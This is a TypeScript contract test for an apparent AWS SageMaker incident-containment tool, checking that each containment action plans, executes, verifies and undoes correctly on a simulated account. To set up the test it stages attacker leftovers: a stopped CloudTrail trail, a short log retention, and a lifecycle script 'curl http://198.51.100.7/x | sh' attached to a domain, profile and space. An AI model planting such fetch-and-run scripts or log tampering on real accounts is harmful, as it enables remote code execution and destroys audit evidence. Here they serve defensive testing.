import { StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { CreateLogGroupCommand, PutRetentionPolicyCommand } from '@aws-sdk/client-cloudwatch-logs';
import * as sm from '@aws-sdk/client-sagemaker';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type OpenDoor, openAws } from '../../src/aws/client.ts';
import type { Params } from '../../src/containment/action.ts';
import { permissionsFor } from '../../src/containment/action-calls.ts';
import { actions } from '../../src/containment/catalogue.ts';
import { foldContainments } from '../../src/containment/fold.ts';
import { PlanOutdatedError } from '../../src/containment/plan-outdated-error.ts';
import { createRunner, type Runner } from '../../src/containment/runner.ts';
import { callsOf, undoSteps } from '../../src/containment/step.ts';
import { kindsOf, resolveTarget } from '../../src/containment/target.ts';
import type { ResourceRef } from '../../src/model/resource.ts';
import { type Range, startRange } from '../../src/range/range.ts';
import { systemClock } from '../../src/shared/clock.ts';
import { sha256 } from '../../src/shared/digest.ts';
import { clientsOf } from '../range/clients.ts';
import { fakeJournal } from './fake-aws.ts';
import { startJob } from './range-jobs.ts';

const speed = 2000;
const signal = new AbortController().signal;

/** Everything of a kind that the account holds: a new kind of target needs its listing here, and its actions are then tested too. */
const listings: Record<string, (door: OpenDoor) => Promise<readonly (string | undefined)[]>> = {
  'sagemaker.endpoint': async ({ aws }) =>
    ((await aws.call('sagemaker:ListEndpoints', { MaxResults: 100 })).Endpoints ?? []).map(
      ({ EndpointName }) => EndpointName,
    ),
  'sagemaker.notebook-instance': async ({ aws }) =>
    ((await aws.call('sagemaker:ListNotebookInstances', { MaxResults: 100 })).NotebookInstances ?? []).map(
      ({ NotebookInstanceName }) => NotebookInstanceName,
    ),
  'sagemaker.notebook-instance-lifecycle-config': async ({ aws }) =>
    ((await aws.call('sagemaker:ListNotebookInstances', { MaxResults: 100 })).NotebookInstances ?? []).flatMap(
      ({ NotebookInstanceLifecycleConfigName: name }) => (name ? [name] : []),
    ),
  'sagemaker.inference-component': async ({ aws }) =>
    ((await aws.call('sagemaker:ListInferenceComponents', { MaxResults: 100 })).InferenceComponents ?? []).map(
      ({ InferenceComponentName }) => InferenceComponentName,
    ),
  'application-autoscaling.scalable-target': async ({ aws }) =>
    (
      (await aws.call('application-autoscaling:DescribeScalableTargets', { ServiceNamespace: 'sagemaker' }))
        .ScalableTargets ?? []
    ).map(({ ResourceId }) => ResourceId),
  // Their other states: identity-contract.test.ts.
  'iam.user': async () => ['alice'],
  'iam.access-key': async ({ aws }) =>
    ((await aws.call('iam:ListAccessKeys', { UserName: 'alice' })).AccessKeyMetadata ?? []).map(
      ({ AccessKeyId }) => AccessKeyId,
    ),
  'cloudtrail.trail': async ({ aws }) =>
    ((await aws.call('cloudtrail:DescribeTrails', {})).trailList ?? []).map(({ Name }) => Name),
  's3.bucket': async () => ['ml-prod-data-111122223333', 'ml-prod-models-111122223333'],
  'logs.log-group': async ({ aws }) =>
    ((await aws.call('logs:DescribeLogGroups', { limit: 50 })).logGroups ?? []).map(({ logGroupName }) => logGroupName),
  ...Object.fromEntries(
    (
      [
        [
          'training-job',
          (client) => client.send(new sm.ListTrainingJobsCommand(running)),
          'TrainingJobSummaries',
          'TrainingJobName',
        ],
        [
          'processing-job',
          (client) => client.send(new sm.ListProcessingJobsCommand(running)),
          'ProcessingJobSummaries',
          'ProcessingJobName',
        ],
        [
          'transform-job',
          (client) => client.send(new sm.ListTransformJobsCommand(running)),
          'TransformJobSummaries',
          'TransformJobName',
        ],
        [
          'hyper-parameter-tuning-job',
          (client) => client.send(new sm.ListHyperParameterTuningJobsCommand(running)),
          'HyperParameterTuningJobSummaries',
          'HyperParameterTuningJobName',
        ],
        [
          'automl-job',
          (client) => client.send(new sm.ListAutoMLJobsCommand(running)),
          'AutoMLJobSummaries',
          'AutoMLJobName',
        ],
        [
          'monitoring-schedule',
          (client) => client.send(new sm.ListMonitoringSchedulesCommand({})),
          'MonitoringScheduleSummaries',
          'MonitoringScheduleName',
        ],
        [
          'mlflow-tracking-server',
          (client) => client.send(new sm.ListMlflowTrackingServersCommand({})),
          'TrackingServerSummaries',
          'TrackingServerName',
        ],
        [
          'model-package-group',
          (client) => client.send(new sm.ListModelPackageGroupsCommand({})),
          'ModelPackageGroupSummaryList',
          'ModelPackageGroupName',
        ],
      ] as readonly [string, (client: sm.SageMakerClient) => Promise<object>, string, string][]
    ).map(([kind, ask, list, name]) => [
      `sagemaker.${kind}`,
      async () => {
        await startJob[kind]?.(clientsOf(range).sagemaker, `contract-${kind.split('-')[0]}`);
        const answer = (await ask(clientsOf(range).sagemaker)) as Record<string, Record<string, string>[] | undefined>;
        return (answer[list] ?? []).map((row) => row[name]);
      },
    ]),
  ),
  'events.rule': async ({ aws }) => ((await aws.call('events:ListRules', {})).Rules ?? []).map(({ Name }) => Name),
  'sagemaker.app': async ({ aws, identity }) => {
    const { Apps = [] } = await aws.call('sagemaker:ListApps', { MaxResults: 100 });
    const { account, region } = await identity();
    return Apps.filter(({ Status }) => Status === 'InService').map(
      ({ DomainId, UserProfileName, SpaceName, AppType, AppName }) =>
        `arn:aws:sagemaker:${region}:${account}:app/${DomainId}/${`${UserProfileName ?? SpaceName}/${AppType}/${AppName}`.toLowerCase()}`,
    );
  },
  'sagemaker.user-profile': async ({ aws, identity }) => {
    const { UserProfiles = [] } = await aws.call('sagemaker:ListUserProfiles', { MaxResults: 100 });
    const { account, region } = await identity();
    return UserProfiles.map(
      ({ DomainId, UserProfileName = '' }) =>
        `arn:aws:sagemaker:${region}:${account}:user-profile/${DomainId}/${UserProfileName.toLowerCase()}`,
    );
  },
  'sagemaker.space': async ({ aws, identity }) => {
    const { Spaces = [] } = await aws.call('sagemaker:ListSpaces', { MaxResults: 100 });
    const { account, region } = await identity();
    return Spaces.map(
      ({ DomainId, SpaceName = '' }) =>
        `arn:aws:sagemaker:${region}:${account}:space/${DomainId}/${SpaceName.toLowerCase()}`,
    );
  },
  'sagemaker.domain': async ({ aws }) =>
    ((await aws.call('sagemaker:ListDomains', {})).Domains ?? []).map(({ DomainId }) => DomainId),
  'sagemaker.partner-app': async ({ aws }) =>
    ((await aws.call('sagemaker:ListPartnerApps', {})).Summaries ?? []).map(({ Arn }) => Arn),
  'sagemaker.mlflow-app': async ({ aws }) =>
    ((await aws.call('sagemaker:ListMlflowApps', {})).Summaries ?? []).map(({ Arn }) => Arn),
  'scheduler.schedule': async ({ aws }) =>
    ((await aws.call('scheduler:ListSchedules', {})).Schedules ?? []).map(({ Arn }) => Arn),
  'sagemaker.pipeline-execution': async ({ aws }) => {
    const { PipelineSummaries = [] } = await aws.call('sagemaker:ListPipelines', {});
    await clientsOf(range).sagemaker.send(
      new sm.StartPipelineExecutionCommand({
        PipelineName: PipelineSummaries[0]?.PipelineName,
        ClientRequestToken: 'c'.repeat(32),
      }),
    );
    const executions = await Promise.all(
      PipelineSummaries.map(({ PipelineName }) => aws.call('sagemaker:ListPipelineExecutions', { PipelineName })),
    );
    return executions
      .flatMap(({ PipelineExecutionSummaries = [] }) => PipelineExecutionSummaries)
      .filter(({ PipelineExecutionStatus }) => PipelineExecutionStatus === 'Executing')
      .map(({ PipelineExecutionArn }) => PipelineExecutionArn);
  },
  'sagemaker.model-package': async () => {
    const { sagemaker } = clientsOf(range);
    const { ModelPackageGroupSummaryList = [] } = await sagemaker.send(new sm.ListModelPackageGroupsCommand({}));
    const packages = await Promise.all(
      ModelPackageGroupSummaryList.map(({ ModelPackageGroupName }) =>
        sagemaker.send(new sm.ListModelPackagesCommand({ ModelPackageGroupName })),
      ),
    );
    return packages.flatMap(({ ModelPackageSummaryList = [] }) =>
      ModelPackageSummaryList.map(({ ModelPackageArn }) => ModelPackageArn),
    );
  },
  'iam.role': async ({ aws }) => {
    const notebooks = (await aws.call('sagemaker:ListNotebookInstances', {})).NotebookInstances ?? [];
    const described = await Promise.all(
      notebooks.map(({ NotebookInstanceName }) =>
        aws.call('sagemaker:DescribeNotebookInstance', { NotebookInstanceName }),
      ),
    );
    return [...new Set(described.map(({ RoleArn }) => RoleArn))];
  },
};

/** Jobs that have ended are of no use to an action that stops them. */
const running = { StatusEquals: 'InProgress' } as const;

let range: Range;
let door: OpenDoor;
let runner: Runner;
const journal = fakeJournal([], systemClock);

/** An endpoint with two variants whose weights nobody keeps moving: the calm account's own one has a controller. */
async function makeTwoVariants(): Promise<void> {
  const { sagemaker } = clientsOf(range);
  const variant = (VariantName: string, ModelName: string, InitialVariantWeight: number) =>
    ({ VariantName, ModelName, InitialVariantWeight, InitialInstanceCount: 1, InstanceType: 'ml.m5.large' }) as const;
  const name = { EndpointConfigName: 'pricing-ab-v2' };
  await sagemaker.send(
    new sm.CreateEndpointConfigCommand({
      ...name,
      ProductionVariants: [variant('champion', 'churn-model-a', 0.8), variant('challenger', 'churn-model-b', 0.2)],
    }),
  );
  await sagemaker.send(new sm.CreateEndpointCommand({ EndpointName: 'pricing-ab', ...name }));
  await sm.waitUntilEndpointInService(
    { client: sagemaker, maxWaitTime: 60, minDelay: 1, maxDelay: 1 },
    { EndpointName: 'pricing-ab' },
  );
}

/** The trail stopped and a log group that forgets within a day: what log tampering leaves behind. */
async function tamperWithLogs(): Promise<void> {
  const { cloudtrail, logs } = clientsOf(range);
  await cloudtrail.send(new StopLoggingCommand({ Name: 'main-trail' }));
  const logGroupName = '/aws/sagemaker/Endpoints/tampered';
  await logs.send(new CreateLogGroupCommand({ logGroupName }));
  await logs.send(new PutRetentionPolicyCommand({ logGroupName, retentionInDays: 1 }));
}

/** A space that is open to remote IDEs, with its app. */
async function makeRemoteSpace(): Promise<void> {
  const { sagemaker } = clientsOf(range);
  const { Domains = [] } = await sagemaker.send(new sm.ListDomainsCommand({}));
  const space = { DomainId: Domains[0]?.DomainId, SpaceName: 'contract-remote' };
  await sagemaker.send(
    new sm.CreateSpaceCommand({
      ...space,
      OwnershipSettings: { OwnerUserProfileName: 'bob' },
      SpaceSharingSettings: { SharingType: 'Private' },
      SpaceSettings: { AppType: 'CodeEditor', RemoteAccess: 'ENABLED' },
    }),
  );
  const app = { ...space, AppType: 'CodeEditor', AppName: 'default' } as const;
  const end = performance.now() + 20_000;
  for (;;) {
    const { Status } = await sagemaker.send(new sm.DescribeSpaceCommand(space));
    if (Status === 'InService') break;
    if (performance.now() > end) throw new Error(`space is ${Status}`);
  }
  await sagemaker.send(new sm.CreateAppCommand(app));
  for (;;) {
    const { Status } = await sagemaker.send(new sm.DescribeAppCommand(app));
    if (Status === 'InService') break;
    if (performance.now() > end) throw new Error(`app is ${Status}`);
  }
}

/** A script that runs at every start of an app: in the settings of the domain, of a profile and of a space. */
async function attachScripts(): Promise<void> {
  const { sagemaker } = clientsOf(range);
  const { Domains = [] } = await sagemaker.send(new sm.ListDomainsCommand({}));
  const domain = { DomainId: Domains[0]?.DomainId };
  const { StudioLifecycleConfigArn: arn = '' } = await sagemaker.send(
    new sm.CreateStudioLifecycleConfigCommand({
      StudioLifecycleConfigName: 'contract-evil',
      StudioLifecycleConfigAppType: 'JupyterLab',
      StudioLifecycleConfigContent: Buffer.from('curl http://198.51.100.7/x | sh').toString('base64'),
    }),
  );
  const { StudioLifecycleConfigArn: idle = '' } = await sagemaker.send(
    new sm.DescribeStudioLifecycleConfigCommand({ StudioLifecycleConfigName: 'studio-idle-stop' }),
  );
  const spec = { InstanceType: 'ml.t3.medium', LifecycleConfigArn: arn } as const;
  await sagemaker.send(
    new sm.UpdateDomainCommand({
      ...domain,
      DefaultUserSettings: {
        JupyterLabAppSettings: { DefaultResourceSpec: spec, LifecycleConfigArns: [idle, arn] },
        CodeEditorAppSettings: { LifecycleConfigArns: [arn] },
      },
      DefaultSpaceSettings: { JupyterLabAppSettings: { BuiltInLifecycleConfigArn: arn } },
    }),
  );
  await sagemaker.send(
    new sm.UpdateUserProfileCommand({
      ...domain,
      UserProfileName: 'carol',
      UserSettings: { JupyterLabAppSettings: { LifecycleConfigArns: [arn] } },
    }),
  );
  await sagemaker.send(
    new sm.CreateSpaceCommand({
      ...domain,
      SpaceName: 'contract-scripted',
      OwnershipSettings: { OwnerUserProfileName: 'bob' },
      SpaceSharingSettings: { SharingType: 'Private' },
      SpaceSettings: { AppType: 'JupyterLab', JupyterLabAppSettings: { DefaultResourceSpec: spec } },
    }),
  );
  for (const settled = performance.now() + 20_000; ; ) {
    const { Status } = await sagemaker.send(new sm.DescribeDomainCommand(domain));
    const space = await sagemaker.send(new sm.DescribeSpaceCommand({ ...domain, SpaceName: 'contract-scripted' }));
    if (Status === 'InService' && space.Status === 'InService') return;
    if (performance.now() > settled) throw new Error(`domain is ${Status}, space ${space.Status}`);
  }
}

/**
 * What undo cannot put back, as the plans say: a tracking server that was Created is Started afterwards, a profile without a role of its own
 * names the domain's default.
 */
const notRestored: Record<string, (state: string) => string> = {
  'sagemaker.mlflow-tracking-server.stop': (state) => state.replaceAll('"status":"Created"', '"status":"Started"'),
  'sagemaker.model-package.reject': (state) =>
    state.replaceAll(/"ApprovalDescription":"",|"LastModifiedBy":\{(?:[^{}]|\{[^{}]*\})*\},/g, ''),
  'sagemaker.presigned-entry.close': (state) => state.replaceAll('"status":"Created"', '"status":"Started"'),
  'sagemaker.user-profile.swap-role': (state) =>
    state.replaceAll(/"UserSettings":\{"ExecutionRole":"[^"]*:role\/service-role\/ds-exec"\}/g, '"UserSettings":{}'),
};

beforeAll(async () => {
  range = await startRange({ speed });
  await makeRemoteSpace();
  await attachScripts();
  await makeTwoVariants();
  await tamperWithLogs();
  door = await openAws({
    region: range.region,
    endpoint: range.endpoint,
    credentials: range.credentials,
    clock: systemClock,
    simulated: true,
    // The range takes as many more as it is faster.
    lookupPerSecond: 1000,
    incident: 'contract',
  });
  runner = createRunner({
    aws: door.aws,
    writer: door.writer,
    arming: door.arming,
    journal,
    clock: systemClock,
    actions,
    identity: () => door.identity(),
    incident: 'contract',
    saveSnapshot: async (name, json) => ({ file: name, sha256: sha256(JSON.stringify(json)) }),
    speed,
  });
});
afterAll(async () => {
  runner.close();
  door.close();
  await range.close();
});

/** Kinds that the range does not hold yet: their actions are not tried here. */
const notOnRange: ReadonlySet<string> = new Set();

/** Each plan asks the event history, page by page: one of each kind says it all. */
const mostTargets: Record<string, number> = { 'sagemaker.presigned-entry.close': 1 };

/** Targets on which an action cannot come out as holding, because somebody in the calm account keeps setting it back. */
const setBack: Record<string, readonly string[]> = { 'sagemaker.endpoint.shift-traffic': ['churn-canary'] };

/** The first value that the action offers for each of its parameters; `undefined` when it offers none. */
async function params(action: string, target: ResourceRef): Promise<Params | undefined> {
  const offered = await runner.parameters(action, target, signal);
  const values = offered.map(({ name, choices }) => [name, choices?.[0]] as const);
  return values.some(([, value]) => value === undefined) ? undefined : (Object.fromEntries(values) as Params);
}

/** Confirms as an operator does: what changed between look and key is looked at and confirmed once more. */
async function contain(action: string, target: ResourceRef, chosen: Params) {
  door.arming.arm();
  const confirmation = { reason: 'contract', typedName: target.name };
  const { plan } = await runner.plan(action, target, chosen, signal);
  try {
    return await runner.approve(plan, confirmation, 'test', signal);
  } catch (error) {
    if (!(error instanceof PlanOutdatedError)) throw error;
    return runner.approve(error.plan, confirmation, 'test', signal);
  }
}

describe('every action on the range: plan, execute, verify, undo, as it was', () => {
  it('every kind of target is listed here', () => {
    const missing = kindsOf(actions).filter((kind) => !listings[kind] && !notOnRange.has(kind));
    expect(missing).toEqual([]);
    expect([...notOnRange].filter((kind) => listings[kind])).toEqual([]);
  });
  const simulated = actions.filter(({ appliesTo }) => appliesTo.some((kind) => listings[kind]));
  it.each(simulated.map(({ id }) => id))(
    '%s',
    async (id) => {
      const action = actions.find((one) => one.id === id)!;
      let done = 0;
      for (const kind of action.appliesTo) {
        for (const name of ((await listings[kind]?.(door)) ?? []).slice(0, mostTargets[id])) {
          const identity = await door.identity();
          const target = await resolveTarget(name ?? '', [action], { aws: door.aws, identity, signal });
          const before = await range.state();
          const chosen = await params(id, target);
          if (!chosen || setBack[id]?.includes(target.name)) continue;
          const { plan } = await runner.plan(id, target, chosen, signal);
          // Jobs move by themselves; that planning sends nothing is the door's to see to.
          if (action.reversible) expect(await range.state(), `planning ${target.name} changes nothing`).toBe(before);
          const declared = permissionsFor(action);
          const needed = [...callsOf(plan.steps), ...callsOf(undoSteps(plan))].map((call) => call.name as string);
          expect(declared, `what ${id} needs is written down`).toEqual(
            expect.arrayContaining([...needed, ...(plan.alsoNeeds ?? [])]),
          );
          const assess = async () => {
            const assessment = await runner.assess(plan, signal, () => undefined);
            expect(assessment.permissions.checked).toBe('simulated');
            // Kinds that the range does not serve (yet) and what no kind reads are told, never passed over; nothing else is missing.
            for (const problem of assessment.affectedComplete ? [] : (assessment.affectedProblem ?? '').split('; '))
              expect(problem).toMatch(/is not known|does not serve|is not read/);
          };
          // Jobs end by themselves while others are looked through: theirs is looked at afterwards.
          if (action.reversible) await assess();
          if (plan.steps.length === 0) continue;

          const running = await contain(id, target, chosen);
          const written = await running.written;
          expect(written.error, target.name).toBeUndefined();
          expect(written.containment.state, JSON.stringify(written.containment.verdict)).toBe('written');
          expect((await runner.plan(id, target, chosen, signal)).plan.steps).toEqual([]);
          const { containment } = await running.holding;
          if (!action.reversible) await assess();
          expect(containment.state, JSON.stringify(containment.verdict)).toBe('confirmed');
          expect(await range.state(), `${id} changes ${target.name}`).not.toBe(before);

          // Nothing brings it back: the plan has no undo, and says so.
          if (!action.reversible && containment.undoSteps.length === 0) {
            await expect(runner.planUndo(containment, signal)).rejects.toMatchObject({ code: 'NothingToUndo' });
            done += 1;
            continue;
          }
          const undo = await runner.undo(
            await runner.planUndo(containment, signal),
            { reason: 'contract', typedName: target.name },
            'test',
            signal,
          );
          const undone = await undo.done;
          expect(undone.error, target.name).toBeUndefined();
          expect(undone.containment.state, JSON.stringify(undone.containment.verdict)).toBe('undone');
          const less = notRestored[id] ?? ((state: string) => state);
          expect(JSON.parse(less(await range.state())), `undo of ${id} brings ${target.name} back`).toEqual(
            JSON.parse(less(before)),
          );
          done += 1;
        }
      }
      expect(done).toBeGreaterThan(0);
    },
    120_000,
  );
  it('the journal of it all folds to nothing but undone containments', () => {
    const irreversible = new Set(actions.filter(({ reversible }) => !reversible).map(({ id }) => id));
    const states = foldContainments(journal.lines).flatMap(({ state, plan }) =>
      // What cannot be brought back stands, or is undone as far as it goes.
      irreversible.has(plan.action) && state === 'confirmed' ? [] : [state],
    );
    expect(new Set(states)).toEqual(new Set(['undone']));
  });
});

it.each(['llm-gateway', 'recsys-ranker', 'churn-canary'])('the calm account has %s', async (name) => {
  expect(await listings['sagemaker.endpoint']?.(door)).toContain(name);
});
